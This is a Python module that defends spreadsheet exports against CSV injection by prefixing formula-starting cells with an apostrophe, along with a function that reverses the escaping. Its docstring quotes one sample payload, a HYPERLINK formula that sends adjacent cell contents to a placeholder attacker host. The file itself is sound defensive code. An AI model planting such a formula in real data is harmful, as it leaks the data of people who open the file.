"""Cells of files people open in a spreadsheet (every admin export: users, audit, usage).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel, LibreOffice and Google Sheets (CSV injection): a display name such as
``=HYPERLINK("https://evil.example/?"&A2)`` would leak the rows next to it. Such a cell gets a
leading apostrophe, which the spreadsheet shows as text. A cell that already starts with an
apostrophe gets one too, so the escaping can be undone exactly (the audit export's seals are
checked on the original values).
"""

from __future__ import annotations

from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "'")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as safe to put in a CSV or XLSX cell; anything but a string is returned as is."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def spreadsheet_uncell(value: str) -> str:
    """The value ``spreadsheet_cell`` was given."""
    return value[1:] if value.startswith("'") else value
